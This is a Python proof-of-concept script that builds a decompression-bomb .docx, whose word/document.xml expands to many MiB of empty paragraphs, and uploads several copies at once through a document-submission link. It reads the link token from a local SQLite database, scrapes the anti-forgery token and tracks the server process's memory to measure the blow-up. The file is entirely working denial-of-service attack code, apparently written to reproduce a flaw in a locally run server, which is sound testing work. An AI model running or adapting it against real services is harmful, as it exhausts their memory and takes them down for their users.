"""Uploads crafted .docx files through a submission link and prints the server's memory (see README.md beside it).

Arguments: base URL, server pid, SQLite database path (read-only: the link's token), number of uploads at once,
megabytes of <w:p/> in word/document.xml.
"""
import http.cookiejar
import io
import re
import sqlite3
import sys
import threading
import time
import urllib.error
import urllib.request
import uuid
import zipfile

base, pid, db, uploads, megabytes = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])


def rss_kib():
    with open(f"/proc/{pid}/status") as f:
        return int(re.search(r"VmRSS:\s+(\d+) kB", f.read()).group(1))


def bomb(mb):
    """A valid package whose main part is mb MiB of empty paragraphs, compressed as hard as zip goes."""
    head = b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    tail = b"</w:body></w:document>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        with z.open("word/document.xml", "w") as w:
            w.write(head)
            block = b"<w:p/>" * (1 << 18)
            left = mb * 1024 * 1024 - len(head) - len(tail)
            while left > 0:
                chunk = block[: min(len(block), left) // 6 * 6]
                if not chunk:
                    break
                w.write(chunk)
                left -= len(chunk)
            w.write(tail)
    return out.getvalue()


# The link of the one seeded case still waiting for its document (AL-025): every upload is read and judged.
with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as c:
    token = c.execute("SELECT l.Token FROM SubmissionLinks l JOIN Entries e ON e.Id = l.EntryId WHERE e.Code = 'AL-025'").fetchone()[0]

data = bomb(megabytes)
print(f"crafted .docx: {len(data) / 1024:.0f} KB on the wire, word/document.xml {megabytes} MiB of <w:p/>")


def session():
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar), NoRedirect())
    html = opener.open(f"{base}/submit/{token}").read().decode()
    af = re.search(r'name="__RequestVerificationToken"[^>]*value="([^"]+)"', html).group(1)
    return opener, af


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def upload(opener, af, results, i):
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"__RequestVerificationToken\"\r\n\r\n{af}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bomb.docx\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    req = urllib.request.Request(f"{base}/submit/{token}/upload", data=body, method="POST",
                                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    start = time.perf_counter()
    try:
        status = opener.open(req).status
    except urllib.error.HTTPError as e:
        status = e.code
    results[i] = (status, time.perf_counter() - start)


sessions = [session() for _ in range(uploads)]
time.sleep(2)
idle = rss_kib()
results = [None] * uploads
peak = idle
threads = [threading.Thread(target=upload, args=(o, af, results, i)) for i, (o, af) in enumerate(sessions)]
for t in threads:
    t.start()
while any(t.is_alive() for t in threads):
    peak = max(peak, rss_kib())
    time.sleep(0.02)
after = rss_kib()
print(f"server RSS: idle {idle / 1024:.1f} MiB, highest during the uploads {peak / 1024:.1f} MiB (+{(peak - idle) / 1024:.1f} MiB), "
      f"after {after / 1024:.1f} MiB (+{(after - idle) / 1024:.1f} MiB)")
for i, (status, seconds) in enumerate(results):
    print(f"upload {i + 1}: HTTP {status} in {seconds * 1000:.0f} ms")
